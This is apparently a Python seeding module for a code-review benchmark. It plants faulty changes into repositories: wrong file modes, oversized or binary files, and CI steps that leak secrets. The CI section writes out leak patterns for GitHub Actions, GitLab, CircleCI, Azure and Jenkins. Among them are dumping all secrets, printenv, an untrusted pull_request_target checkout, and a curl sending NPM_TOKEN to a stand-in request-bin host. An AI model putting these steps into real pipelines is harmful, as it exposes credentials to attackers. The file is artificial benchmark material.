"""Files that do not belong: wrong modes, too large, built; and pipelines that give secrets away."""

from collections.abc import Sequence
from random import Random

from agentxd.workspace.lines import split_lines

from tests.bench.seeding.material import EXECUTABLE, FILE, Edit, Make, Shape, Spot

_MIB = 1 << 20


def _made_executable(random: Random, spot: Spot) -> Sequence[Edit] | None:
    """A file that nothing can run, as a copy from another system leaves it."""
    if spot.new.startswith(b"#!") or spot.file.new_mode != FILE or spot.file.old is None:
        return None
    return [Edit(spot.file.path, spot.new, spot.old, mode=EXECUTABLE, old_mode=FILE)]


def _new_executable(path: str, text: bytes) -> Make:
    return lambda random, spot: [Edit(path, text, mode=EXECUTABLE)]


def _lost_bit(path: str, text: bytes) -> Make:
    """A script that could be run and cannot be any more."""

    def make(random: Random, spot: Spot) -> Sequence[Edit]:
        return [Edit(path, text + b"echo done\n", text, mode=FILE, old_mode=EXECUTABLE)]

    return make


_MODES = [
    *(Shape("permission-bits", f"executable-{language}", _made_executable, (language,))
      for language in ("js", "ts", "go", "rs", "java", "md", "json", "yaml", "toml", "css", "html", "rst", "py")),
    Shape("permission-bits", "new-text", _new_executable("docs/notes.txt", b"Notes\n")),
    Shape("permission-bits", "new-picture", _new_executable("docs/logo.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(90))),
    Shape("permission-bits", "new-style", _new_executable("web/site.css", b"body { margin: 0 }\n")),
    Shape("permission-bits", "new-license", _new_executable("COPYING", b"Copyright\n")),
    Shape("permission-bits", "lost-shell", _lost_bit("scripts/release.sh", b"#!/bin/sh\nset -e\nmake dist\n")),
    Shape("permission-bits", "lost-bash", _lost_bit("bin/setup", b"#!/usr/bin/env bash\nset -e\nnpm ci\n")),
    Shape("permission-bits", "lost-gradle", _lost_bit("gradlew", b'#!/bin/sh\nexec java -jar wrapper.jar "$@"\n')),
]  # fmt: skip


def _large(path: str, size: int, kind: str = "text") -> Shape:
    """So many bytes; what is larger than anybody reads has a size alone."""

    def make(random: Random, spot: Spot) -> Sequence[Edit]:
        if size > 2_000_000:
            return [Edit(path, None, size=size)]
        row = b"\0" + random.randbytes(999) if kind == "binary" else b"1,2,3,some text,2024-01-01\n"
        return [Edit(path, (row * (size // len(row) + 1))[:size])]

    return Shape("large-file", path.rpartition("/")[2], make)


_LARGE = [
    _large("data/export.csv", 3 * _MIB), _large("data/dump.sql", 40 * _MIB),
    _large("fixtures/users.json", 6 * _MIB), _large("logs/server.log", 12 * _MIB),
    _large("media/intro.mp4", 55 * _MIB, "binary"), _large("media/intro.mov", 120 * _MIB, "binary"),
    _large("models/model.onnx", 90 * _MIB, "binary"), _large("models/weights.pt", 30 * _MIB, "binary"),
    _large("assets/poster.png", 8 * _MIB, "binary"), _large("assets/photo.jpg", 5 * _MIB, "binary"),
    _large("docs/manual.pdf", 20 * _MIB, "binary"), _large("db/dev.sqlite3", 15 * _MIB, "binary"),
    _large("backup.tar.gz", 25 * _MIB, "binary"), _large("dist/app.js", 4 * _MIB),
    _large("data/train.parquet", 10 * _MIB, "binary"), _large("notebooks/explore.ipynb", 7 * _MIB),
    _large("core.1234", 60 * _MIB, "binary"), _large("data/words.txt", 1_900_000),
]  # fmt: skip


def _binary(path: str, head: bytes) -> Shape:
    def make(random: Random, spot: Spot) -> Sequence[Edit]:
        return [Edit(path, head + b"\0" + random.randbytes(random.randint(2_000, 60_000)))]

    return Shape("binary-file", path.rpartition("/")[2], make)


_ZIP, _ELF, _GZIP = b"PK\x03\x04\x14\0", b"\x7fELF\x02\x01\x01\0", b"\x1f\x8b\x08\0"
_BINARY = [
    _binary("bin/tool", _ELF), _binary("build/app.exe", b"MZ\x90\0\x03\0"), _binary("native/parser.so", _ELF),
    _binary("native/parser.dll", b"MZ\x90\0"), _binary("native/libx.dylib", b"\xcf\xfa\xed\xfe\0"),
    _binary("src/parser.o", _ELF), _binary("lib/libparser.a", b"!<arch>\n\0"),
    _binary("src/__pycache__/app.cpython-311.pyc", b"\xa7\r\r\n\0"), _binary("target/App.class", b"\xca\xfe\xba\xbe\0"),
    _binary("lib/helper.jar", _ZIP), _binary("dist/app-1.0.0-py3-none-any.whl", _ZIP),
    _binary("release.zip", _ZIP), _binary("vendor.tgz", _GZIP), _binary(".DS_Store", b"\0\0\0\x01Bud1"),
    _binary("Thumbs.db", b"\xd0\xcf\x11\xe0\0"), _binary("src/.main.py.swp", b"b0VIM 8.2\0"),
    _binary("local.db", b"SQLite format 3\0"), _binary("cache.pickle", b"\x80\x04\x95\0"),
    _binary("app.apk", _ZIP), _binary("installer.msi", b"\xd0\xcf\x11\xe0\0"),
]  # fmt: skip

_JOB = "name: Extra\non: {on}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n{steps}"
_PUSH = "push"


def _workflow(name: str, steps: str, find: str, on: str = _PUSH) -> Shape:
    """Steps of a workflow: put behind the last step of a real one, else a new one."""

    def make(random: Random, spot: Spot) -> Sequence[Edit] | None:
        at_end = spot.new.endswith(b"\n") and split_lines(spot.new)[-1].startswith(b"        ")
        if on == _PUSH and at_end and b"\r" not in spot.new:
            text = spot.new.decode("utf-8", "replace") + steps
            old = spot.file.old
            path, mode = spot.file.path, spot.file.new_mode
        else:
            text, old = _JOB.format(on=on, steps=steps), None
            path, mode = f".github/workflows/extra-{random.randint(1, 99)}.yml", FILE
        rows = text.split("\n")
        first = len(rows) - len(steps.split("\n"))
        hits = [n for n, row in enumerate(rows) if n >= first and find in row]
        return [Edit(path, text.encode(), old, first, hits[-1] + 1, mode=mode)]

    return Shape("ci-secret-leak", name, make, paths=".github/workflows/*.y*ml")


def _pipeline(name: str, path: str, text: str, find: str) -> Shape:
    def make(random: Random, spot: Spot) -> Sequence[Edit] | None:
        rows = text.split("\n")
        hit = next(n for n, row in enumerate(rows) if find in row)
        return (
            None if path in spot.tree.paths() else [Edit(path, text.encode(), None, hit, hit + 1)]
        )

    return Shape("ci-secret-leak", name, make)


_S = "      - "
_CI = [
    _workflow("echo", _S + "run: echo ${{ secrets.DEPLOY_TOKEN }}\n", "secrets."),
    _workflow("echo-encoded", _S + 'run: echo "${{ secrets.API_KEY }}" | base64\n', "secrets."),
    _workflow("all-secrets", _S + "run: echo '${{ toJSON(secrets) }}'\n", "secrets"),
    _workflow("reversed", _S + "name: debug\n        env:\n          TOKEN: ${{ secrets.TOKEN }}\n        run: echo $TOKEN | rev\n", "rev"),
    _workflow("environment", _S + "name: debug\n        env:\n          TOKEN: ${{ secrets.TOKEN }}\n        run: printenv\n", "printenv"),
    _workflow("environment-sorted", _S + "name: debug\n        env:\n          KEY: ${{ secrets.SIGNING_KEY }}\n        run: env | sort\n", "sort"),
    _workflow("traced", _S + 'name: deploy\n        env:\n          TOKEN: ${{ secrets.TOKEN }}\n        run: |\n          set -x\n          curl -H "Authorization: Bearer $TOKEN" https://api.acme.io/deploy\n', "curl"),
    _workflow("sent-away", _S + 'run: curl -d "token=${{ secrets.NPM_TOKEN }}" https://requestbin.example.net/x\n', "secrets."),
    _workflow("build-argument", _S + "run: docker build --build-arg TOKEN=${{ secrets.GH_PAT }} .\n", "secrets."),
    _workflow("into-file", _S + 'run: |\n          echo "${{ secrets.ENV_FILE }}" > .env\n          cat .env\n', "cat .env"),
    _workflow("uploaded", _S + 'run: echo "KEY=${{ secrets.KEY }}" > .env\n      - uses: actions/upload-artifact@v4\n        with:\n          name: build\n          path: .env\n', "path: .env"),
    _workflow("output", _S + 'run: echo "token=${{ secrets.TOKEN }}" >> $GITHUB_OUTPUT\n', "secrets."),
    _workflow("summary", _S + 'run: echo "Using ${{ secrets.PASSWORD }}" >> $GITHUB_STEP_SUMMARY\n', "secrets."),
    _workflow("printf", _S + "run: printf '%s' ${{ secrets.SSH_KEY }}\n", "secrets."),
    _workflow("python", _S + "run: python -c \"print('${{ secrets.TOKEN }}')\"\n", "secrets."),
    _workflow("foreign-head", _S + "uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm install && npm test\n        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n", "secrets.", "pull_request_target"),
    _workflow("title", _S + 'run: echo "${{ github.event.issue.title }}"\n        env:\n          TOKEN: ${{ secrets.TOKEN }}\n', "secrets.", "issues"),
    _workflow("node", _S + 'run: node -e "console.log(process.env)"\n        env:\n          TOKEN: ${{ secrets.TOKEN }}\n', "TOKEN"),
    _pipeline("gitlab", ".gitlab-ci.yml", "deploy:\n  script:\n    - echo $DEPLOY_PASSWORD\n    - ./deploy.sh\n", "echo"),
    _pipeline("gitlab-job-token", ".gitlab-ci.yml", 'build:\n  script:\n    - echo "$CI_JOB_TOKEN" | base64\n', "echo"),
    _pipeline("circle", ".circleci/config.yml", "version: 2.1\njobs:\n  build:\n    docker:\n      - image: cimg/base:2024.01\n    steps:\n      - run: echo $AWS_SECRET_ACCESS_KEY\n", "echo"),
    _pipeline("azure", "azure-pipelines.yml", "steps:\n  - script: echo $(deployPassword)\n", "echo"),
    _pipeline("jenkins", "Jenkinsfile", "node {\n  withCredentials([string(credentialsId: 'tok', variable: 'TOKEN')]) {\n    sh 'echo $TOKEN'\n  }\n}\n", "echo"),
]  # fmt: skip
SHAPES = [*_MODES, *_LARGE, *_BINARY, *_CI]
